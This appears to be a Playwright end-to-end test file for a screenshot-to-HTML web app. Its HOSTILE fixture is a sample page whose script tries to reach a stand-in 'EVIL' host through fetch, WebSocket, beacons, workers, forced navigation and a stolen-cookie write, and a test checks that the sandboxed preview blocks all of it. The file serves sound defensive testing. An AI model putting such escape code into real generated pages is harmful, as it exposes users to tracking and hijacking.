"""The app as a person uses it, in a real browser."""

import contextlib
import io
import re
import socket
import threading
import time
import zipfile
from collections.abc import Generator, Iterator
from pathlib import Path
from typing import Literal
from urllib.parse import unquote_plus

import numpy as np
import pytest
from PIL import Image, ImageDraw, ImageFont
from playwright.sync_api import (
    Browser,
    BrowserContext,
    Locator,
    Page,
    Route,
    expect,
    sync_playwright,
)

from generation.engine import ENGINES, Request
from generation.errors import Stopped
from generation.events import Delta
from generation.page import Page as GeneratedPage
from verify.browser import find_browser
from verify.render import Renderer
from verify.screenshot import Viewport
from webapp.app import running
from webapp.settings import Settings

SENTENCE = re.compile(r"^[^\n]{10,200}\.$")

# Tries to get out in every way that needs no click, says that it ran, and then leaves.
HOSTILE = """<!doctype html><title>hostile</title>
<meta http-equiv="refresh" content="3;url=http://EVIL/refresh">
<link rel="stylesheet" href="http://EVIL/style"><link rel="prefetch" href="http://EVIL/prefetch">
<link rel="preconnect" href="http://EVIL"><link rel="modulepreload" href="http://EVIL/module">
<style>@import "http://EVIL/import"; body { background: url(http://EVIL/background) }
@font-face { font-family: evil; src: url(http://EVIL/font) } p { font-family: evil }</style>
<img src="http://EVIL/img"><iframe src="http://EVIL/frame"></iframe><embed src="http://EVIL/embed">
<object data="http://EVIL/object"></object><video src="http://EVIL/video" autoplay></video>
<a target="_top" href="http://EVIL/a" ping="http://EVIL/ping">a</a>
<form target="_top" action="http://EVIL/form"></form>
<p>before</p>
<script>
const attempts = [
  () => fetch('http://EVIL/fetch'),
  () => new WebSocket('ws://EVIL/socket'),
  () => new EventSource('http://EVIL/events'),
  () => navigator.sendBeacon('http://EVIL/beacon'),
  () => import('http://EVIL/import'),
  () => new Worker('data:text/javascript,fetch("http://EVIL/worker")'),
  () => { new Image().src = 'http://EVIL/image' },
  () => { top.location = 'http://EVIL/top' },
  () => { parent.location = 'http://EVIL/parent' },
  () => open('http://EVIL/popup'),
  () => document.querySelector('a').click(),
  () => document.querySelector('form').submit(),
  () => { top.document.title = 'owned' },
  () => { parent.parent.document.title = 'owned' },
  () => localStorage.setItem('a', 'b'),
  () => { document.cookie = 'likeness=stolen' },
  () => alert('dialog'),
  () => top.postMessage({value: 'owned', run: 'owned'}, '*'),
];
for (const attempt of attempts) try { attempt(); } catch {}
document.body.insertAdjacentHTML('beforeend', '<p>ran</p>');
setTimeout(() => { location = 'http://EVIL/leave' }, 1000);
</script>"""


class PacedEngine:
    """Writes a page a pass, each when `go` is released."""

    name = "paced"
    refines = True
    takes_repairs = False
    go = threading.Semaphore(0)
    stopped = threading.Event()
    html = "<!doctype html><title>paced</title><p>{number}</p>"

    def generate(self, request: Request) -> Generator[Delta, None, GeneratedPage]:
        yield Delta("thinking about it")
        while not self.go.acquire(timeout=0.05):
            if request.stop.is_set():
                self.stopped.set()
                raise Stopped("stopped")
        number = request.previous.index + 2 if request.previous else 1
        return GeneratedPage({"index.html": self.html.replace("{number}", f"page {number}")})


class TalkingEngine:
    """Thinks 20 KB and writes 60 KB, in small pieces, and then gives a page."""

    name = "talking"
    refines = False
    takes_repairs = False

    def generate(self, request: Request) -> Generator[Delta, None, GeneratedPage]:
        kinds: list[tuple[Literal["thinking", "answer"], int]]
        kinds = [("thinking", 20_000), ("answer", 60_000)]
        for kind, size in kinds:
            for _ in range(size // 500):
                yield Delta("<p class='line'>a line of it</p>\n" * 15 + "12345", kind=kind)
                time.sleep(0.01)
        while not request.stop.wait(0.05):
            pass
        raise Stopped("stopped")


@pytest.fixture(scope="module")
def renderer() -> Iterator[Renderer]:
    with Renderer() as renderer:
        yield renderer


@pytest.fixture(scope="module")
def url(tmp_path_factory: pytest.TempPathFactory, renderer: Renderer) -> Iterator[str]:
    with pytest.MonkeyPatch.context() as patch, socket.socket() as free:
        engines = {**ENGINES, "paced": f"{__name__}:PacedEngine"}
        engines["talking"] = f"{__name__}:TalkingEngine"
        patch.setattr("generation.engine.ENGINES", engines)
        patch.setenv("GRADIO_TEMP_DIR", str(tmp_path_factory.mktemp("uploads")))
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
        free.close()
        settings = Settings(port=port, data=tmp_path_factory.mktemp("data"))
        with running(settings, renderer) as url:
            yield url


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        own = playwright.chromium.executable_path
        browser = playwright.chromium.launch(executable_path=find_browser(playwrights_own=own))
        yield browser
        browser.close()


@pytest.fixture
def context(browser: Browser, url: str) -> Iterator[BrowserContext]:
    """A browser that fails the test when it sees an error or asks another host."""
    context = browser.new_context(viewport={"width": 1440, "height": 900})
    wrong: list[str] = []
    context.on("console", lambda m: wrong.append(m.text) if m.type == "error" else None)
    context.on("weberror", lambda e: wrong.append(str(e.error)))
    context.on("request", lambda r: None if _is_local(r.url, url) else wrong.append(r.url))
    yield context
    context.close()
    assert not wrong


def _is_local(requested: str, url: str) -> bool:
    return requested.startswith((url, "data:", "blob:", "about:"))


@pytest.fixture
def page(context: BrowserContext, url: str) -> Page:
    return open_app(context, url)


def open_app(context: BrowserContext, url: str) -> Page:
    page = context.new_page()
    page.goto(url)
    expect(page.get_by_role("button", name="Generate")).to_be_visible(timeout=20_000)
    return page


@pytest.fixture(scope="module")
def screenshot(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A small page: a coloured heading bar, a line of text, a button."""
    image = Image.new("RGB", (480, 320), "white")
    draw = ImageDraw.Draw(image)
    large, small = ImageFont.load_default(28), ImageFont.load_default(18)
    draw.rectangle((0, 0, 480, 70), "#1d4e89")
    draw.text((24, 18), "Harbour news", "white", large)
    draw.text((24, 110), "The ferry leaves at noon", "#222222", small)
    draw.rounded_rectangle((24, 180, 164, 224), 8, "#c8553d")
    draw.text((50, 191), "Buy a ticket", "white", small)
    path = tmp_path_factory.mktemp("shots") / "harbour news.png"
    image.save(path)
    return path


def choose(page: Page, file: Path, engine: str | None = None) -> None:
    page.set_input_files("#design-file", file)
    expect(page.locator(".drop-note")).to_have_text(re.compile("px$"))
    if engine:
        page.get_by_role("button", name="Options").click()
        page.get_by_label("Engine").click()
        page.get_by_role("option", name=engine).click()


def received(server: socket.socket) -> list[bytes]:
    """What each connection to the server has sent so far."""
    messages = []
    with contextlib.suppress(BlockingIOError):
        while True:
            connection, _ = server.accept()
            connection.settimeout(0.5)
            try:
                messages.append(connection.recv(1024))
            except TimeoutError:
                messages.append(b"")
    return messages


def status(page: Page) -> Locator:
    return page.locator(".status-text")


def preview_text(page: Page) -> Locator:
    return page.frame_locator("#preview iframe.front").frame_locator("iframe").locator("body")


def test_a_screenshot_becomes_a_page_that_can_be_taken_away(
    page: Page, screenshot: Path, renderer: Renderer, url: str
):
    choose(page, screenshot)
    page.get_by_role("button", name="Generate").click()
    expect(page.get_by_role("button", name="Stop")).to_be_visible()
    expect(page.locator(".version").first).to_be_visible(timeout=60_000)
    expect(status(page)).to_contain_text("Done", timeout=60_000)
    expect(page.locator(".version[aria-pressed=true]")).to_have_count(1)
    expect(page.locator(".score-value")).to_have_text(re.compile(r"^\d+\.\d %$"))
    page.get_by_text("What the score is made of").click()
    assert page.locator(".part").count() > 3
    expect(preview_text(page)).to_contain_text("The ferry leaves at noon")

    page.get_by_role("tab", name="Compare").click()
    for name in ("design", "result"):
        image = page.locator(f".sheet-{name} img")
        expect(image).to_have_js_property("complete", True)
        assert image.evaluate("i => i.naturalWidth") == 480
    middle = page.locator(".stage-line").bounding_box()
    page.get_by_role("slider").press("Home")
    left = page.locator(".stage-line").bounding_box()
    assert middle
    assert left
    assert left["x"] < middle["x"]

    page.get_by_role("tab", name="Code").click()
    expect(page.locator(".cm-content").first).to_contain_text("The ferry leaves at noon")

    with page.expect_download() as download:
        page.get_by_role("link", name="ZIP").click()
    assert download.value.suggested_filename == "harbour-news.zip"
    archive = zipfile.ZipFile(download.value.path())
    assert {"index.html", "styles.css", "report.html", "README.md", "tokens.json"} <= set(
        archive.namelist()
    )
    files = {name: archive.read(name) for name in archive.namelist()}
    shown = page.locator(".sheet-result img").get_attribute("src")
    seen = Image.open(io.BytesIO(page.request.get(f"{url}{shown}").body()))
    again = renderer.render(
        {n: c.decode() if n.endswith((".html", ".css")) else c for n, c in files.items()},
        Viewport(480, 320),
    )
    assert np.array_equal(np.asarray(seen), again.pixels)


def test_stop_ends_the_work(page: Page, screenshot: Path):
    PacedEngine.stopped.clear()
    choose(page, screenshot, "paced")
    page.keyboard.press("Control+Enter")
    expect(status(page)).to_contain_text("Thinking about it", timeout=30_000)
    PacedEngine.go.release()
    expect(page.locator(".version")).to_have_count(1, timeout=30_000)
    page.keyboard.press("Escape")
    expect(status(page)).to_contain_text("Stopped")
    expect(page.get_by_role("button", name="Generate")).to_be_visible()
    assert PacedEngine.stopped.wait(10)
    expect(preview_text(page)).to_have_text("page 1")


def test_a_run_survives_a_reload_and_is_private(
    page: Page, context: BrowserContext, browser: Browser, screenshot: Path
):
    choose(page, screenshot, "paced")
    page.get_by_role("button", name="Generate").click()
    expect(status(page)).to_contain_text("Thinking about it", timeout=30_000)
    PacedEngine.go.release()
    expect(page.locator(".version")).to_have_count(1, timeout=30_000)

    address = page.url
    page.close()
    page = context.new_page()
    page.goto(address)
    expect(status(page)).to_contain_text("Thinking about it", timeout=20_000)
    expect(page.locator(".version")).to_have_count(1)
    expect(page.locator(".drop-name")).to_have_text("harbour-news")
    expect(preview_text(page)).to_have_text("page 1")
    PacedEngine.go.release()
    expect(page.locator(".version")).to_have_count(2, timeout=30_000)
    expect(status(page)).to_contain_text("Done", timeout=90_000)

    stranger = browser.new_page()
    stranger.goto(address)
    expect(stranger.get_by_role("alert")).to_contain_text("another browser", timeout=20_000)
    expect(stranger.locator(".version")).to_have_count(0)
    stranger.close()


def test_a_hostile_page_reaches_nothing(
    browser: Browser, screenshot: Path, url: str, monkeypatch: pytest.MonkeyPatch
):
    with socket.create_server(("127.0.0.1", 0)) as evil, browser.new_context() as context:
        evil.setblocking(False)
        address = "{}:{}".format(*evil.getsockname())
        monkeypatch.setattr(PacedEngine, "html", HOSTILE.replace("EVIL", address))
        page = open_app(context, url)
        choose(page, screenshot, "paced")
        page.get_by_role("slider", name="Passes").press("Home")
        PacedEngine.go.release()
        page.get_by_role("button", name="Generate").click()
        expect(preview_text(page)).to_contain_text("before", timeout=60_000)
        expect(preview_text(page)).not_to_contain_text("ran")
        page.wait_for_timeout(3500)  # until the refresh
        assert received(evil) == []
        page.get_by_label("Run scripts").check()
        expect(preview_text(page)).to_contain_text("ran")
        page.wait_for_timeout(1500)  # until it leaves
        assert b"".join(received(evil)) == b""
        assert len(context.pages) == 1
        assert page.title() == "Likeness"
        assert page.url.startswith(url)
        assert "stolen" not in str(context.cookies())


def test_what_is_no_design_is_refused_in_a_sentence(page: Page, corpus: Path):
    for name in ("empty.png", "html_renamed.png", "truncated.png", "hostile.svg"):
        page.set_input_files("#design-file", corpus / "bad" / name)
        expect(page.get_by_role("alert")).to_have_text(re.compile(f"{name}.*\\.$"))
        assert SENTENCE.match(page.get_by_role("alert").inner_text())
        expect(page.locator(".drop-prompt")).to_be_visible()
    page.get_by_role("button", name="Generate").click()
    expect(page.get_by_role("alert")).to_have_text(re.compile("^Choose a screenshot first"))


def test_a_picture_can_be_pasted(page: Page, screenshot: Path):
    page.evaluate(
        """bytes => {
          const data = new DataTransfer();
          data.items.add(new File([new Uint8Array(bytes)], 'image.png', {type: 'image/png'}));
          document.body.dispatchEvent(
            new ClipboardEvent('paste', {clipboardData: data, bubbles: true}));
        }""",
        list(screenshot.read_bytes()),
    )
    expect(page.locator(".drop-note")).to_have_text("480 × 320 px")


def test_a_sample_shows_at_once_what_was_made_of_it_and_can_be_made_anew(page: Page):
    page.get_by_role("button", name="Sample: Signup").click()
    expect(page.locator(".version")).to_have_count(1)
    expect(status(page)).to_contain_text("made beforehand")
    expect(page.locator(".drop-name")).to_have_text("Signup")
    expect(page.get_by_role("button", name="Sample: Signup")).to_have_attribute(
        "aria-pressed", "true"
    )
    expect(preview_text(page)).to_contain_text("Saturday")
    first = page.url
    page.get_by_role("button", name="Generate").click()
    expect(status(page)).to_contain_text("Done", timeout=120_000)
    expect(page.locator(".earlier li")).to_have_count(2)
    assert page.url != first


@pytest.mark.parametrize(("width", "scheme"), [(1440, "dark"), (390, "light")])
def test_the_screen_fits_its_window(browser: Browser, url: str, width: int, scheme):
    context = browser.new_context(viewport={"width": width, "height": 844}, color_scheme=scheme)
    page = open_app(context, url)
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    generate = page.get_by_role("button", name="Generate").bounding_box()
    assert generate
    assert generate["y"] + generate["height"] < 844
    context.close()


def test_health_is_answered_while_a_run_is_at_work(page: Page, screenshot: Path, url: str):
    choose(page, screenshot, "paced")
    page.get_by_role("button", name="Generate").click()
    expect(status(page)).to_contain_text("Thinking about it", timeout=30_000)
    assert page.request.get(f"{url}healthz").text() == "ok"
    page.get_by_role("button", name="Stop").click()


def test_an_edit_is_measured_and_an_earlier_version_comes_back(page: Page, screenshot: Path):
    choose(page, screenshot, "paced")
    page.get_by_role("slider", name="Passes").press("Home")
    PacedEngine.go.release()
    page.get_by_role("button", name="Generate").click()
    expect(status(page)).to_contain_text("Done", timeout=60_000)
    page.get_by_role("tab", name="Code").click()
    page.locator(".cm-content").first.click()
    page.keyboard.press("Control+End")
    page.keyboard.type("and a line by hand")
    page.get_by_role("button", name="Measure my changes").click()
    expect(page.locator(".version")).to_have_count(2, timeout=30_000)
    expect(page.locator(".version[aria-pressed=true]")).to_contain_text("Edit of index.html")
    page.get_by_role("tab", name="Preview").click()
    expect(preview_text(page)).to_contain_text("and a line by hand")
    page.get_by_role("button", name="Phone").click()
    expect(page.locator(".preview-size")).to_contain_text("390 px wide")
    page.get_by_role("tab", name="Compare").click()
    page.get_by_label("Compare with").select_option("Pass 1")
    expect(page.locator(".sheet-design img")).to_have_attribute("alt", "Pass 1")
    page.keyboard.press("1")
    expect(page.locator(".version").first).to_have_attribute("aria-pressed", "true")
    page.get_by_role("tab", name="Preview").click()
    expect(preview_text(page)).not_to_contain_text("by hand")


def test_runs_can_be_pinned_and_deleted(page: Page, screenshot: Path):
    choose(page, screenshot, "paced")
    page.get_by_role("slider", name="Passes").press("Home")
    PacedEngine.go.release()
    page.get_by_role("button", name="Generate").click()
    expect(status(page)).to_contain_text("Done", timeout=60_000)
    page.get_by_role("button", name="Pin harbour-news").click()
    expect(page.get_by_role("button", name="Unpin harbour-news")).to_be_visible()
    page.once("dialog", lambda dialog: dialog.accept())
    page.get_by_role("button", name="Delete harbour-news").click()
    page.wait_for_url(re.compile(r"^[^?]*$"))
    expect(page.get_by_role("navigation", name="Your runs")).to_be_hidden()


def test_the_result_is_handed_over_in_a_stack_and_as_a_pen(
    browser: Browser, url: str, screenshot: Path
):
    context = browser.new_context()  # one that may ask another host
    page = open_app(context, url)
    choose(page, screenshot, "paced")
    page.get_by_role("slider", name="Passes").press("Home")
    PacedEngine.go.release()
    page.get_by_role("button", name="Generate").click()
    expect(status(page)).to_contain_text("Done", timeout=60_000)
    page.get_by_role("tab", name="Export").click()
    page.get_by_label("React").check()
    expect(page.locator(".export-score")).to_contain_text("these very files", timeout=20_000)
    with page.expect_download() as download:
        page.locator("#export").get_by_role("link", name="Download ZIP").click()
    assert "src/App.jsx" in zipfile.ZipFile(download.value.path()).namelist()
    sent: list[str] = []

    def receive(route: Route) -> None:
        sent.append(route.request.post_data or "")
        route.fulfill(body="made")

    context.route("https://codepen.io/**", receive)
    with page.expect_popup() as popup:
        page.get_by_role("button", name="Open in CodePen").click()
    expect(popup.value.locator("body")).to_have_text("made")
    assert "<p>page 1</p>" in unquote_plus(sent[0])
    context.close()


def test_what_a_model_says_is_shown_as_it_comes_without_a_lag(page: Page, screenshot: Path):
    page.evaluate(
        """() => { window.tasks = []; new PerformanceObserver(list =>
          tasks.push(...list.getEntries().map(e => e.duration))).observe({type: 'longtask'}); }"""
    )
    choose(page, screenshot, "talking")
    page.get_by_role("button", name="Generate").click()
    expect(page.locator(".activity-answer pre")).to_contain_text("a line of it", timeout=30_000)
    expect(page.locator(".activity-thinking summary")).to_contain_text("20,000 characters")
    expect(page.locator(".activity-answer summary")).to_contain_text("60,000", timeout=30_000)
    text = page.locator(".activity-answer pre").evaluate("pre => pre.textContent")
    assert len(text) == 60_000
    assert max(page.evaluate("tasks"), default=0) < 400  # ms; 200 on a machine that is quiet
    page.get_by_role("button", name="Stop").click()
    expect(page.locator(".activity")).to_be_hidden()


AXE = (Path(__file__).parent / "vendor" / "axe.min.js").read_text(encoding="utf-8")
VIOLATIONS = """async () => (await axe.run(document, {iframes: false})).violations
  .filter(found => ['critical', 'serious'].includes(found.impact))
  .map(found => `${found.id}: ${found.nodes.map(node => node.html).join(' ')}`)"""


@pytest.mark.parametrize(("width", "scheme"), [(1440, "light"), (390, "dark")])
def test_everybody_can_use_it(browser: Browser, url: str, screenshot: Path, width: int, scheme):
    context = browser.new_context(viewport={"width": width, "height": 844}, color_scheme=scheme)
    page = open_app(context, url)
    page.evaluate(AXE)
    page.get_by_role("button", name="Draw a sketch").click()
    assert page.evaluate(VIOLATIONS) == []
    page.get_by_role("button", name="Close").click()
    choose(page, screenshot, "paced")
    page.get_by_role("slider", name="Passes").press("Home")
    PacedEngine.go.release()
    page.get_by_role("button", name="Generate").click()
    expect(status(page)).to_contain_text("Done", timeout=60_000)
    for tab in ("Preview", "Compare", "Code", "Export"):
        page.get_by_role("tab", name=tab).click()
        page.wait_for_timeout(300)  # until it has faded in
        assert page.evaluate(VIOLATIONS) == [], tab
    context.close()


def test_a_sketch_is_drawn_and_becomes_a_page_while_it_is_drawn(page: Page):
    page.get_by_role("button", name="Draw a sketch").click()
    paper = page.locator("canvas").bounding_box()
    assert paper
    scale = paper["width"] / 1280

    def drag(*corners: tuple[int, int]) -> None:
        for index, (x, y) in enumerate(corners):
            page.mouse.move(paper["x"] + x * scale, paper["y"] + y * scale)
            if index == 0:
                page.mouse.down()
        page.mouse.up()

    undo = page.get_by_role("button", name="Undo")
    expect(undo).to_be_disabled()
    page.get_by_role("button", name="Box").click()
    drag((40, 40), (1240, 140))
    undo.click()
    expect(undo).to_be_disabled()
    drag((43, 38), (1238, 141))  # snaps
    drag((60, 200), (600, 560))
    drag((680, 200), (1220, 560))
    expect(page.locator(".version")).to_have_count(1, timeout=120_000)
    page.get_by_role("button", name="Close").click()
    expect(page.locator(".drop-name")).to_have_text("sketch")
    expect(page.locator(".notes")).to_contain_text("Taken for a")
